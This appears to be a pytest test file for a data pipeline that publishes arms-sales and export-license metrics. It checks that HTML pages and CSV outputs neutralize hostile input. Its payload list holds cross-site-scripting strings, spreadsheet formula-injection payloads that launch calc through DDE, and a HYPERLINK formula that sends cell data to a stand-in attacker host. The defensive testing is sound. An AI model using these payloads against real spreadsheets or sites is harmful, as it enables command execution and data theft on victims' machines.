"""Hostile text in every text field of every table (issue 11, fault 7 and "hostile HTML and
formula text"): the sample data with HTML and spreadsheet-formula payloads added to every
text column, once on a row that is otherwise valid and once on a row also quarantined for a
bad date. Every page, the validation report and every CSV the run writes must show them
escaped or neutralized (OWASP CSV injection: a quote before = + - @ tab CR), with the
original text kept after the quote for the analyst."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest

from arms_metrics.ingest.schemas import COLUMNS
from tests.conftest import PIPELINE_TOML, SAMPLE_DATA, SAMPLE_QUARTER, arms_metrics

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")<script>alert(1)</script>',
    "+cmd|' /C calc'!A0<img src=x onerror=alert(2)>",
    "-2+3+cmd|' /C calc'!A0</td><script>alert(3)</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0\"><svg onload=alert(4)>",
    "\t=1+1<script>alert(5)</script>",
]
# A line break inside a field is allowed in free text only (docs/inputs.md). A leading CR is
# neutralized on output (tests/unit/test_writers.py); reading one is the line-ending work's.
CR_PAYLOAD = "=1+1\n<script>alert(6)</script>"
FREE_TEXT = {("congressional_notifications", "description")}
RAW_MARKUP = re.compile(r"<script>alert|<img src=x|<svg onload|</td><script", re.I)  # unescaped
NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
BAD_DATE = {"fms_lors": "received_date", "fms_documents": "lor_complete_date",
            "fms_cases": "implemented_date", "fms_deliveries": "delivery_date",
            "congressional_notifications": "notification_date",
            "export_licenses": "received_date", "tpt_requests": "received_date",
            "eum_checks": "initiated_date"}  # fmt: skip
HOSTILE_NAME = "<img src=x onerror=alert(7)>.csv"
IDS = ("lor_id", "document_id", "case_id", "delivery_id", "transmittal_no", "application_id",
       "request_id", "check_id")  # fmt: skip


def _payload_rows(table: str, template: dict[str, str]) -> list[dict[str, str]]:
    """Two rows per text column: the payload alone, and the payload with a bad date."""
    rows, number = [], 0
    columns = [c for c, kind in COLUMNS[table].items() if kind == "text"]
    for column in columns:
        payload = PAYLOADS[number % len(PAYLOADS)]
        payload = CR_PAYLOAD if (table, column) in FREE_TEXT else payload
        for broken in (False, True):
            number += 1
            row = dict(template)
            for key in IDS:
                if key in row and key != column:
                    row[key] = f"HOSTILE-{number}"
            row[column] = payload
            if broken:
                row[BAD_DATE[table]] = "not a date"
            rows.append(row)
    return rows


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    folder = tmp / "input"
    shutil.copytree(SAMPLE_DATA, folder)
    for table in COLUMNS:
        path = folder / f"{table}.csv"
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        with path.open("a", encoding="utf-8", newline="") as handle:
            extra = _payload_rows(table, rows[0])
            if table == "fms_deliveries":  # a negative amount must stay a number
                extra.append(
                    {**rows[0], "delivery_id": "NEGATIVE-1", "delivered_value_usd": "-500.00"}
                )
            csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n").writerows(extra)
    (folder / HOSTILE_NAME).write_text("not a table\n", encoding="utf-8")  # listed, ignored
    pipeline = tmp / "quarterly"  # the payload rows are many beside 70 notifications
    shutil.copytree(PIPELINE_TOML.parent, pipeline)
    text = (pipeline / "pipeline.toml").read_text(encoding="utf-8")
    text = text.replace("max_quarantine_share = 0.01", "max_quarantine_share = 0.5")
    text = text.replace("max_indicator_loss_share = 0.005", "max_indicator_loss_share = 1")
    (pipeline / "pipeline.toml").write_text(text, encoding="utf-8")
    site, work = tmp / "site", tmp / "work"
    done = arms_metrics(
        "run", "--input", str(folder), "--quarter", SAMPLE_QUARTER, "--site", str(site),
        "--work", str(work), "--config", str(pipeline / "pipeline.toml"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return site, work


def _files(site: Path, work: Path, suffix: str) -> list[Path]:
    return sorted(p for folder in (site, work) for p in folder.rglob(f"*{suffix}"))


def test_no_page_or_report_carries_raw_markup(hostile_run):
    site, work = hostile_run
    pages = _files(site, work, ".html")
    assert work / "validation" / "report.html" in pages and len(pages) > 10
    found = [str(p) for p in pages if RAW_MARKUP.search(p.read_text(encoding="utf-8"))]
    assert found == []
    report = (work / "validation" / "report.html").read_text(encoding="utf-8")
    assert "<code>&lt;img src=x onerror=alert(7)&gt;.csv</code>" in report  # shown, escaped
    # published JSON and SVG too (work/validation/summary.json is data for the analyst: it
    # lists the ignored file name as found)
    others = [*site.rglob("*.json"), *site.rglob("*.svg")]
    assert [str(p) for p in others if RAW_MARKUP.search(p.read_text(encoding="utf-8"))] == []


def test_every_csv_cell_is_inert_and_numbers_are_unchanged(hostile_run):
    site, work = hostile_run
    sheets = _files(site, work, ".csv")
    assert len(sheets) > 3
    live = []
    for path in sheets:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                live += [
                    (path.name, cell[:30])
                    for cell in row
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                    and not NUMBER.fullmatch(cell)
                ]
    assert live == []
    with (work / "quarantine/fms_deliveries.csv").open(encoding="utf-8", newline="") as handle:
        amounts = {r["delivery_id"]: r["delivered_value_usd"] for r in csv.DictReader(handle)}
    assert amounts["NEGATIVE-1"] == "-500.00"


def test_every_payload_reaches_the_quarantine_with_its_original_text(hostile_run):
    _, work = hostile_run
    seen = set()
    for table in COLUMNS:
        with (work / "quarantine" / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                for column, kind in COLUMNS[table].items():
                    value = row[column]
                    if kind == "text" and value.startswith("'") and "alert(" in value:
                        seen.add((table, column, value[1:]))
    expected = set()
    for table in COLUMNS:
        template = dict.fromkeys(COLUMNS[table], "")
        for row in _payload_rows(table, template):
            expected |= {(table, c, v) for c, v in row.items() if "alert(" in v}
    assert seen == expected
